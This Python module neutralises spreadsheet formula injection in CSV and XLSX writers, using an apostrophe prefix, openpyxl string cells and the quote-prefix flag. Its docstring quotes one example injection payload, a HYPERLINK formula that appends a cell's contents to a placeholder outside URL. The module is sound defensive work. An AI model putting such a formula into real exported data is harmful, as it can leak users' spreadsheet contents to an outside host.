"""Spreadsheet cells that cannot run: the one rule every CSV and XLSX writer applies.

A spreadsheet reads a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` as a formula,
and one beginning with a tab or carriage return can be turned into one (CSV injection,
OWASP). Text reaches outputs from councils' exports (a team named
``=HYPERLINK("http://x/?"&B2,"open")``), so every writer passes its cells through here:

- **CSV**: :func:`neutralise` puts an apostrophe before such text (``'=HYPERLINK(...)``),
  which spreadsheets show as text; :func:`csv_writer` does it for every cell written.
  Numbers are written as numbers: a negative count or change (``-3``) is not text and is
  left alone, as is a number a writer has formatted itself, marked :class:`Figure`
  (``Figure("-0.0500")``).
- **XLSX**: :func:`xlsx_text` makes a cell holding text a string cell, never a formula
  (openpyxl turns any text beginning ``=`` into one, and an error code such as ``#N/A``
  into an error), and marks text beginning with one of those characters with the cell's
  "quote prefix", as Excel does when a user types a leading apostrophe: shown as written,
  kept as text if edited. :func:`xlsx_row` appends a row so to an in-memory sheet, and
  :func:`xlsx_value` makes a value ready for a write-only sheet the same way.

It imports nothing: the command line imports it only when it writes CSV.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import IO, Any

__all__ = [
    "FORMULA_TRIGGERS",
    "Figure",
    "SafeWriter",
    "csv_writer",
    "neutralise",
    "xlsx_row",
    "xlsx_text",
    "xlsx_value",
]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell's text as a formula."""


class Figure(str):
    """A number as a writer formatted it (``-0.0500``): written as it is, not as text."""

    __slots__ = ()


def neutralise(value: Any) -> Any:
    """``value`` for a CSV cell: text beginning with one of :data:`FORMULA_TRIGGERS` with
    an apostrophe before it; any other value (numbers, a :class:`Figure`, dates, other
    text) unchanged."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not isinstance(value, Figure)
    ):
        return "'" + value
    return value


def _field(value: Any) -> str:
    # Plain text first: most cells of a large file are, and its checks are the cheapest.
    if type(value) is str:
        text = "'" + value if value.startswith(FORMULA_TRIGGERS) else value
    else:
        text = "" if value is None else str(neutralise(value))
    # Four searches in C: cheaper than a set of the text's characters for long notes.
    if "," in text or '"' in text or "\n" in text or "\r" in text:
        return '"' + text.replace('"', '""') + '"'
    return text


class SafeWriter:
    """Writes rows as :func:`csv.writer` does (comma-separated, minimal quoting), every
    cell passed through :func:`neutralise`; unlike it, a cell holding a lone carriage
    return is quoted too, so that no spreadsheet splits its row there."""

    def __init__(self, stream: IO[str], *, lineterminator: str = "\n") -> None:
        self._stream = stream
        self._end = lineterminator

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row."""
        fields = [_field(value) for value in row]
        # A row of one empty cell is written "" so that it is not a blank line.
        line = '""' if fields == [""] else ",".join(fields)
        self._stream.write(line + self._end)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write each row."""
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], *, lineterminator: str = "\n") -> SafeWriter:
    """A CSV writer on ``stream`` (``\\n`` line ends by default) that neutralises text."""
    return SafeWriter(stream, lineterminator=lineterminator)


def xlsx_text(cell: Any) -> None:
    """Make an openpyxl cell holding text a string cell (never a formula), quote-prefixed
    when the text begins with one of :data:`FORMULA_TRIGGERS`. Other cells are left as
    they are."""
    value = cell.value
    if not isinstance(value, str):
        return
    cell.data_type = "s"
    if value.startswith(FORMULA_TRIGGERS):
        cell.quotePrefix = True


def xlsx_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet, each text cell made safe by :func:`xlsx_text`."""
    row = list(values)
    sheet.append(row)
    number = sheet._current_row  # the row append wrote
    for column, value in enumerate(row, start=1):
        if isinstance(value, str):
            xlsx_text(sheet.cell(number, column))


_ERROR_CODES = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))
"""The text openpyxl would write as an error value rather than as text."""


def xlsx_value(sheet: Any, value: Any, *, always: bool = False) -> Any:
    """``value`` ready to append to an openpyxl write-only ``sheet``: text that openpyxl
    would write as a formula or an error (or that begins with one of
    :data:`FORMULA_TRIGGERS`) as a string cell, quote-prefixed as :func:`xlsx_text` does;
    any other value as it is, or as a cell of its own when ``always`` (to be styled)."""
    if isinstance(value, str):
        trigger = value.startswith(FORMULA_TRIGGERS)
        if not (always or trigger or (value[:1] == "#" and value in _ERROR_CODES)):
            return value
        cell = _write_only_cell(sheet, value)
        cell.data_type = "s"
        if trigger:
            cell.quotePrefix = True
        return cell
    return _write_only_cell(sheet, value) if always else value


def _write_only_cell(sheet: Any, value: Any) -> Any:
    from openpyxl.cell import WriteOnlyCell

    return WriteOnlyCell(sheet, value)
